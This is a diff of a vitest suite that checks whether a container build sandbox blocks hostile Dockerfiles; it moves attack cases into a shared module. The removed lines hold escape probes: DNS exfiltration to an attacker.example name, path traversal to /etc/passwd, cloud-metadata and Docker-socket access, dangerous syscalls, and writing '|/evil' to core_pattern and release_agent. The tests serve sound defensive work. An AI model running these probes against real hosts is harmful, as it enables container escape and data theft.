@@ -4,9 +4,10 @@ import { createServer, type AddressInfo } from 'node:net';
 import { hostname, networkInterfaces } from 'node:os';
 import { join } from 'node:path';
 import { expect } from 'vitest';
+import { attacks, reachingTheHost } from '../../src/isolation/attacks.ts';
+import { attempts, openedIn, python, step } from '../../src/isolation/build-programs.ts';
 import { testEnv } from '../sandbox-fixture.ts';
 import { hostileCases, type HostileCase } from './cases.ts';
-import { python, step } from './programs.ts';
 import { tarFile } from './tar-file.ts';
 
 const base = 'FROM debian:bookworm-slim\n';
@@ -39,31 +40,29 @@ async function shelfFiles(dir: string): Promise<string[]> {
 }
 const shelfBefore = shelfFiles(testEnv().SHELF_DIR);
 
-/** Prints "opened" for each attempt that succeeds and "denied" for each that fails. */
-const attempts = (lines: string) => `import ctypes, os, socket
-libc = ctypes.CDLL(None, use_errno=True)
-def attempt(name, work):
-    try:
-        print("opened", name, work())
-    except Exception as error:
-        print("denied", name, error)
-def call(number, *arguments):
-    result = libc.syscall(number, *arguments)
-    if result < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
-    return result
-def mount(kind, where, flags=0, data=None):
-    os.makedirs(where, exist_ok=True)
-    if libc.mount(b"none", where.encode(), kind.encode(), flags, data) < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
-def write(path, text):
-    with open(path, "w") as file: file.write(text)
-${lines}`;
+const nothingOpened: HostileCase['verify'] = ({ log }) => expect(openedIn(log)).toEqual([]);
 
-const nothingOpened: HostileCase['verify'] = ({ log }) => {
-  expect(log).toContain('denied');
-  expect(log).not.toMatch(/^opened/m);
+/** What is also looked at on the host after an attack, by its name. */
+const onTheHost: Record<string, HostileCase['verify']> = {
+  'writing to the shelf and leaving its folder': async (_observed, { env }) =>
+    expect(await shelfFiles(env.SHELF_DIR)).toEqual(await shelfBefore),
+  'mounts and settings of the host': async () =>
+    expect(await readFile('/proc/sys/kernel/core_pattern', 'utf8')).toBe(hostCorePattern),
 };
 
+const shared = [...attacks, reachingTheHost({ address: ownAddress, port })];
+for (const name of Object.keys(onTheHost))
+  if (!shared.some((attack) => attack.name === name)) throw new Error(`no attack is named ${name}`);
+
 const cases: HostileCase[] = [
+  ...shared.map(({ holds, ...attack }): HostileCase => ({
+    ...attack,
+    expected: holds === 'fails' ? failed : graded,
+    verify: async (observed, fixture) => {
+      if (holds === 'denied') await nothingOpened(observed, fixture);
+      await onTheHost[attack.name]?.(observed, fixture);
+    },
+  })),
   {
     number: '10',
     name: 'ADD of a tar with names that lead upwards or to the root',
@@ -109,25 +108,12 @@ const cases: HostileCase[] = [
     expected: failed,
   },
   {
-    number: '13',
-    name: 'RUN --security=insecure',
-    dockerfile: `${base}RUN --security=insecure true\n`,
-    expected: failed,
-  },
-  {
-    number: '14',
-    name: 'RUN --network=host',
-    dockerfile: `${base}RUN --network=host true\n`,
-    expected: failed,
-  },
-  {
     number: '14',
     name: 'RUN --device',
     dockerfile: `${base}RUN --device=nvidia.com/gpu=all true\n`,
     expected: failed,
   },
   ...[
-    'http://169.254.169.254/latest/meta-data/',
     `http://${ownAddress}/`,
     'http://[fd00:ec2::254]/',
     'http://example.com/',
@@ -140,22 +126,6 @@ const cases: HostileCase[] = [
     dockerfile: `${base}ADD ${source} /x\n`,
     expected: failed,
   })),
-  {
-    number: '17',
-    name: 'name lookups, also directly from servers',
-    ...step(
-      attempts(`attempt("lookup", lambda: socket.getaddrinfo("c2VjcmV0.attacker.example", 80))
-def ask(server):
-    query = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    query.settimeout(2)
-    query.sendto(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01", (server, 53))
-    return query.recv(100)
-for server in ["172.17.0.1", "8.8.8.8", "127.0.0.11", "127.0.0.53"]: attempt(server, lambda: ask(server))
-`),
-    ),
-    expected: graded,
-    verify: nothingOpened,
-  },
   ...[
     'https://github.com/docker/docs.git',
     'git@github.com:docker/docs.git',
@@ -167,57 +137,10 @@ for server in ["172.17.0.1", "8.8.8.8", "127.0.0.11", "127.0.0.53"]: attempt(ser
     expected: failed,
   })),
   {
-    number: '19',
-    name: 'writing to the shelf and leaving its folder',
-    ...step(
-      attempts(`import http.client
-def send(method, path):
-    connection = http.client.HTTPConnection("172.17.0.1", 61080, timeout=10)
-    connection.request(method, path, body=b"x" * 1000)
-    answer = connection.getresponse()
-    if answer.status >= 400: raise OSError(answer.status)
-    return answer.read(200)
-for method in ["PUT", "POST", "DELETE", "PATCH", "MKCOL"]:
-    for path in ["/simple/pip/", "/v2/python/manifests/latest", "/new"]: attempt(f"{method} {path}", lambda: send(method, path))
-for path in ["/../../../../etc/passwd", "/simple/../../images.json", "/%2e%2e/%2e%2e/images.json", "/simple/..%2f..%2f..%2fetc%2fpasswd", "//etc/passwd", "/\\x00", "/simple/%00"]: attempt(f"GET {path!a}", lambda: send("GET", path))
-`),
-    ),
-    expected: graded,
-    verify: async (observed, fixture) => {
-      await nothingOpened(observed, fixture);
-      expect(await shelfFiles(fixture.env.SHELF_DIR)).toEqual(await shelfBefore);
-    },
-  },
-  {
     number: '20',
     name: 'any engine socket, by name, by mount and by process',
     dockerfile: `${base}RUN --mount=type=bind,source=/sock,target=/a true\n`,
     expected: failed,
-  },
-  {
-    number: '20',
-    name: 'sockets in the file system or the abstract namespace',
-    dockerfile: `${base}RUN find / -xdev -type s -printf 'opened %p\\n'; grep -h @ /proc/net/unix | sed 's/^/opened /'; ls /sock /data /shelf 2>&1 | sed 's/^/denied /'\n`,
-    expected: graded,
-    verify: nothingOpened,
-  },
-  {
-    number: '20',
-    name: 'the sandbox through /proc',
-    dockerfile: `${base}RUN for n in /proc/[0-9]*; do ls $n/root/sock 2>/dev/null | sed 's/^/opened /'; done; grep -E 'docker.sock|/sock' /proc/self/mounts | sed 's/^/opened /'; echo denied\n`,
-    expected: graded,
-    verify: nothingOpened,
-  },
-  {
-    number: '23',
-    name: 'device nodes',
-    ...step(
-      attempts(
-        'for name, kind, number in [("sda", 0o60000, 0x800), ("vda", 0o60000, 0xfe00), ("mem", 0o20000, 0x101), ("kmsg", 0o20000, 0x10b), ("fuse", 0o20000, 0xae5), ("loop", 0o20000, 0xaed)]:\n    attempt(name, lambda: (os.mknod("/n" + name, kind | 0o666, number), open("/n" + name, "rb").read(1)))\n',
-      ),
-    ),
-    expected: graded,
-    verify: nothingOpened,
   },
   {
     number: '23',
@@ -260,56 +183,6 @@ for path in ["/../../../../etc/passwd", "/simple/../../images.json", "/%2e%2e/%2
     },
     expected: { passed: false },
     verify: async ({ sandbox }) => expect(sandbox).toBeDefined(),
-  },
-  {
-    number: '37',
-    name: 'other sandboxes and the host, by address and by abstract socket name',
-    ...step(
-      attempts(`for address, port in [("${ownAddress}", ${port}), ("127.0.0.1", ${port}), ("172.17.0.1", ${port}), ("172.17.0.1", 2375), ("172.17.0.2", 8000), ("172.17.0.3", 8000), ("10.0.2.2", 80)]:
-    attempt(f"{address} {port}", lambda: socket.create_connection((address, port), timeout=2))
-for name in ["\\0/tmp/.X11-unix/X0", "\\0/containerd-shim", "\\0dbus"]: attempt(repr(name), lambda: socket.socket(socket.AF_UNIX).connect(name))
-`),
-    ),
-    expected: graded,
-    verify: nothingOpened,
-  },
-  {
-    number: '38',
-    name: 'AF_ALG and AF_VSOCK',
-    ...step(
-      attempts(
-        'for family, kind in [(38, 5), (40, 1), (40, 2)]: attempt(f"family {family}", lambda: socket.socket(family, kind))\n',
-      ),
-    ),
-    expected: graded,
-    verify: nothingOpened,
-  },
-  {
-    number: '38',
-    name: 'dangerous system calls',
-    ...step(
-      attempts(
-        'for name, number in {"bpf": 321, "perf_event_open": 298, "kexec_load": 246, "init_module": 175, "finit_module": 313, "open_by_handle_at": 304, "userfaultfd": 323, "io_uring_setup": 425, "reboot": 169, "swapon": 167, "settimeofday": 164, "iopl": 172, "acct": 163, "quotactl": 179, "lookup_dcookie": 212, "kcmp": 312, "add_key of another": 248}.items():\n    attempt(name, lambda: call(number, 0, 0, 0, 0, 0))\n',
-      ),
-    ),
-    expected: graded,
-    verify: nothingOpened,
-  },
-  {
-    number: '38',
-    name: 'mounts and settings of the host',
-    ...step(
-      attempts(`for kind in ["proc", "sysfs", "cgroup", "cgroup2", "debugfs", "tracefs", "securityfs", "bpf", "devtmpfs", "binfmt_misc", "overlay", "tmpfs"]: attempt(f"mount {kind}", lambda: mount(kind, "/m/" + kind))
-for path in ["/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/proc/sys/fs/binfmt_misc/register", "/proc/1/oom_score_adj"]: attempt(f"write {path}", lambda: write(path, "|/evil"))
-attempt("kcore", lambda: open("/proc/kcore", "rb").read(1))
-attempt("kmsg", lambda: open("/dev/kmsg", "rb").read(1))
-`),
-    ),
-    expected: graded,
-    verify: async (observed, fixture) => {
-      await nothingOpened(observed, fixture);
-      expect(await readFile('/proc/sys/kernel/core_pattern', 'utf8')).toBe(hostCorePattern);
-    },
   },
   {
     number: '36',
